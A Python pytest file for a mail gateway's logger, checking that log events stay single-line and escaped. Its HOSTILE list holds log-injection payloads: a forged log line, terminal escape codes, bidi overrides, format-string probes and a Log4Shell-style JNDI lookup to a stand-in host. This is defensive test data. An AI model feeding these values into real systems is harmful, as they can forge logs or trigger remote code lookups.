"""B57: whatever a stranger says, an event stays one line and its fields stay its own."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from mailgw.observe import log

HOSTILE = [
    "a\nb",
    "a\r\n2026-01-02T03:04:05Z info message.taken id=forged",
    "\x1b[2J\x1b[31mred",
    "a\u2028b\u2029c\u0085d",
    "\x00\x01\x07\x08\x7f\x9b",
    "${jndi:ldap://evil.test/x}",
    "{0.__class__}",
    "{name}",
    "%n%s%(x)s",
    "%",
    'quote"quote',
    "back\\slash",
    "a b",
    " reply=250",
    "",
    "\ud800 lone",
    "\u202e right to left",
    "\ufeff\u200b",
    "🂡",
    "x" * 100_000,
]

LINE = re.compile(
    r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ (info|warning|error) ([a-z.-]+)"
    r'((?: \w+=(?:"(?:[^"\\]|\\.)*"|[^" ]+))*)\n'
)
FIELD = re.compile(r' (\w+)=("(?:[^"\\]|\\.)*"|[^" ]+)')


@pytest.fixture(autouse=True)
def lines(capfd: pytest.CaptureFixture[str]) -> Iterator[pytest.CaptureFixture[str]]:
    """The log goes to standard error, as in the program, and nowhere afterwards."""
    root, before = logging.getLogger(), logging.getLogger().handlers[:]
    log.to_stderr()
    yield capfd
    log._write = log._nowhere
    root.handlers[:] = before


def fields(line: str) -> dict[str, str]:
    whole = LINE.fullmatch(line)
    assert whole is not None, line
    return {
        name: json.loads(value) if value.startswith('"') else value
        for name, value in FIELD.findall(whole[3])
    }


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_value_stays_in_its_field(lines: pytest.CaptureFixture[str], value: str) -> None:
    log.info("rcpt.refused", id="c1", rcpt=value, reply=550)
    said = lines.readouterr().err
    assert said.count("\n") == 1
    assert said[:-1].isascii()
    assert said[:-1].isprintable()
    assert fields(said) == {"id": "c1", "rcpt": value, "reply": "550"}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_word_in_a_librarys_message_stays_on_its_line(
    lines: pytest.CaptureFixture[str], value: str
) -> None:
    logging.getLogger("library").warning("peer said %s", value)
    said = lines.readouterr().err
    assert len(said.splitlines()) == 1
    assert said[:-1].isprintable()


@pytest.mark.parametrize(
    ("say", "level"), [(log.info, "info"), (log.warning, "warning"), (log.error, "error")]
)
def test_the_level_is_in_the_line(
    lines: pytest.CaptureFixture[str], say: Callable[..., None], level: str
) -> None:
    say("serve.ready", listeners="127.0.0.1:25", nothing=None)
    said = lines.readouterr().err
    assert said.split(" ", 1)[1] == f"{level} serve.ready listeners=127.0.0.1:25\n"


def test_a_failure_says_the_event_and_the_traceback(lines: pytest.CaptureFixture[str]) -> None:
    try:
        raise RuntimeError("something of ours")
    except RuntimeError:
        log.failure("decision.error", id="c1")
    said = lines.readouterr().err
    assert "error decision.error id=c1\n" in said
    assert "Traceback (most recent call last):\n" in said
    assert "RuntimeError: something of ours\n" in said


def test_what_libraries_only_mention_is_left_out(lines: pytest.CaptureFixture[str]) -> None:
    logging.getLogger("library").info("all is well")
    logging.getLogger("mailgw.amqp").info("connected")
    assert lines.readouterr().err.endswith(" info mailgw.amqp: connected\n")


def test_a_log_that_takes_nothing_stops_nobody() -> None:
    program = "from mailgw.observe import log\nlog.to_stderr()\nfor _ in range(9): log.info('x')"
    with Path("/dev/full").open("w") as full:
        ended = subprocess.run(
            [sys.executable, "-c", program],
            env={"PYTHONPATH": ":".join(sys.path)},
            stderr=full,
            check=False,
        )
    assert ended.returncode == 0


async def test_gathered_lines_are_written_in_order_once_per_turn(
    lines: pytest.CaptureFixture[str],
) -> None:
    end = log.gather(asyncio.get_running_loop())
    log.info("first")
    log.info("second")
    assert lines.readouterr().err == ""
    await asyncio.sleep(0)
    assert [line.split()[-1] for line in lines.readouterr().err.splitlines()] == ["first", "second"]
    log.info("third")
    end()
    log.info("fourth")
    assert [line.split()[-1] for line in lines.readouterr().err.splitlines()] == ["third", "fourth"]
